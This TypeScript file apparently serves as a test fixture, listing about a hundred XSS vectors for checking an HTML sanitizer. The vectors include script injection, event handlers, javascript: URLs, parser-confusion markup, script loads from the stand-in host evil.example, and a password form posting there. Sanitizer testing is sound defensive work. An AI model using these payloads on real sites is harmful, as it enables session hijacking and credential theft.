// Known XSS vectors. Each calls `alert` or loads `evil.example` if it works, so that one browser can test all of them.

const listOf = (text: string) => text.trim().split(/ ¦\s/);

/** Distinct vectors, as text for a comment and as HTML for a post; ¦ is between two. */
export const xssVectors: readonly string[] = [
  // Scripts.
  ...listOf(`
<script>alert(1)</script> ¦ <SCRIPT>alert(2)</SCRIPT> ¦ <script src="https://evil.example/x.js"></script> ¦ <script src=//evil.example/x.js> ¦
<scr<script>ipt>alert(3)</scr</script>ipt> ¦ <script type="late">alert(4)</script> ¦
<script type="module">import "https://evil.example/m.js"</script> ¦ <script/x>alert(5)</script> ¦ <script\n>alert(6)</script\n> ¦
<<script>alert(7);//<</script> ¦ </script><script>alert(8)</script> ¦ <!--><script>alert(9)</script>--> ¦ <!-- --!><script>alert(10)</script> ¦
<![CDATA[<script>alert(11)</script>]]> ¦ <noscript><p title="</noscript><script>alert(12)</script>"></noscript>`),
  // Handlers.
  ...listOf(`
<img src=x onerror=alert(13)> ¦ <img/src/onerror=alert(14)> ¦ <img src="x" OnErRoR="alert(15)"> ¦ <img src=x onerror\u000c=alert(16)> ¦
<img src="x" onerror="&#97;lert(17)"> ¦ <img """><script>alert(18)</script>"> ¦ <img src='x' alt='"' onerror='alert(19)'> ¦
<img src="/media/x.webp" onload="alert(20)" srcset="https://evil.example/s.png 2x"> ¦ <body onload=alert(21)> ¦ <svg onload=alert(22)> ¦
<svg/onload=alert(23)// ¦ <details open ontoggle=alert(24)>x</details> ¦ <video src=x onerror=alert(25)></video> ¦
<video><source onerror="alert(26)"></video> ¦ <audio src=x onerror=alert(27)> ¦ <input autofocus onfocus=alert(28)> ¦
<select autofocus onfocus=alert(29)> ¦ <textarea autofocus onfocus=alert(30)> ¦ <button autofocus onfocus=alert(31)>x</button> ¦
<p tabindex=1 id=x1 onfocus=alert(32)>x</p> ¦ <p style="animation:appear 1s" onanimationstart="alert(33)">x</p> ¦
<p style="transition:color 1s" ontransitionend=alert(34)>x</p> ¦ <marquee onstart=alert(35)>x</marquee> ¦ <a href="#" onmouseover="alert(36)">x</a> ¦
<p onpointerover="alert(37)" onclick="alert(37)">x</p> ¦ <object data="x" onerror=alert(38)> ¦ <iframe onload=alert(39)></iframe> ¦
<style onload=alert(40)></style> ¦ <link rel=stylesheet href=/x.css onerror=alert(41)> ¦
<td background="javascript:alert(42)" onfocusin=alert(42)>x</td> ¦
<dialog open onclose=alert(43)><form method=dialog><button>x</button></form></dialog> ¦
<p popover id=x2 onbeforetoggle=alert(44)>x</p><button popovertarget=x2>x</button> ¦
<p oncontentvisibilityautostatechange=alert(45) style="content-visibility:auto">x</p>`),
  // Addresses that run scripts.
  ...listOf(`
<a href="javascript:alert(46)">x</a> ¦ <a href="JaVaScRiPt:alert(47)">x</a> ¦ <a href=" \u0001javascript:alert(48)">x</a> ¦
<a href="java\tscript:alert(49)">x</a> ¦ <a href="java\nscript:alert(50)">x</a> ¦
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(51)">x</a> ¦
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(52)">x</a> ¦ <a href="javascript&colon;alert(53)">x</a> ¦
<a href="jav&Tab;ascript&NewLine;:alert(54)">x</a> ¦ <a href="javascript://%0aalert(55)">x</a> ¦ <a href="vbscript:msgbox(56)">x</a> ¦
<a href="data:text/html,<script>alert(57)</script>">x</a> ¦ <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg1OCk8L3NjcmlwdD4=">x</a> ¦
<img src="javascript:alert(59)"> ¦ <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(60)'/>"> ¦
<iframe src="javascript:alert(61)"></iframe> ¦ <iframe srcdoc="<script>alert(62)</script>"></iframe> ¦ <embed src="javascript:alert(63)"> ¦
<object data="data:text/html,<script>alert(64)</script>"></object> ¦ <form action="javascript:alert(65)"><button>x</button></form> ¦
<button formaction="javascript:alert(66)">x</button> ¦ <base href="javascript:alert(67)//"> ¦
<meta http-equiv="refresh" content="0;url=javascript:alert(68)"> ¦ <area href="javascript:alert(69)" shape="default"> ¦
<blockquote cite="javascript:alert(70)">x</blockquote>`),
  // Markup that parsers read differently.
  ...listOf(`
<svg><script>alert(71)</script></svg> ¦ <svg><style><img src=x onerror=alert(72)></style></svg> ¦
<svg></p><style><a title="</style><img src=x onerror=alert(73)>"> ¦ <svg><a xlink:href="javascript:alert(74)"><text y="9">x</text></a></svg> ¦
<svg><animate onbegin=alert(75) attributeName=x dur=1s></svg> ¦
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(76)'/></svg>#x"></use></svg> ¦
<svg><foreignObject><iframe onload=alert(77)></iframe></foreignObject></svg> ¦
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(78)&gt;"> ¦ <math href="javascript:alert(79)">x</math> ¦
<math><annotation-xml encoding="text/html"><script>alert(80)</script></annotation-xml></math> ¦
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(81)> ¦ <template><script>alert(82)</script></template> ¦
<template shadowrootmode="open"><img src=x onerror=alert(83)></template> ¦ <title></title><img src=x onerror=alert(84)></title> ¦
<textarea></textarea><img src=x onerror=alert(85)></textarea> ¦ <xmp><p title="</xmp><img src=x onerror=alert(86)>"> ¦
<noembed><img title="</noembed><img src=x onerror=alert(87)>"></noembed> ¦ <plaintext><img src=x onerror=alert(88)> ¦
<select><style></select><img src=x onerror=alert(89)></style></select> ¦
<table><td><a href="x:javascript:alert(90)" style="x:expression(alert(90))">x</a></td></table> ¦ <p title='"><img src=x onerror=alert(91)>'>x</p> ¦
<p title="&quot;><img src=x onerror=alert(92)>">x</p> ¦ <x onclick=alert(93) autofocus tabindex=1 onfocus=alert(93)>x</x> ¦
<img src="x\` \`<script>alert(94)</script>"\` \`> ¦ &lt;script&gt;alert(95)&lt;/script&gt;<img src=x onerror=alert(95) ¦
\u0000<scr\u0000ipt>alert(96)</scr\u0000ipt>`),
  // Requests to other hosts, and pages changed without a script.
  ...listOf(`
<img src="https://evil.example/pixel.gif"> ¦ <img src="//evil.example/pixel.gif"> ¦ <img src="/\\evil.example/pixel.gif"> ¦
<img src="/\t/evil.example/pixel.gif"> ¦ <style>@import "https://evil.example/x.css"; body { display: none }</style> ¦
<p style="position:fixed;inset:0;background:url(https://evil.example/b.png)">x</p> ¦ <link rel="stylesheet" href="https://evil.example/x.css"> ¦
<link rel="prefetch" href="https://evil.example/p"> ¦ <video poster="https://evil.example/v.png" src="https://evil.example/v.mp4" autoplay></video> ¦
<picture><source srcset="https://evil.example/p.png"><img src="/media/x.webp"></picture> ¦ <iframe src="https://evil.example/"></iframe> ¦
<meta http-equiv="refresh" content="0;url=https://evil.example/"> ¦
<form action="https://evil.example/"><input name="password" type="password"></form> ¦ <img name="getElementById" id="content" src="x"> ¦
<a id="defaultView" name="cookie" href="https://evil.example/" ping="https://evil.example/ping">x</a> ¦
</div></article></main></body></html><script>alert(97)</script>`),
];
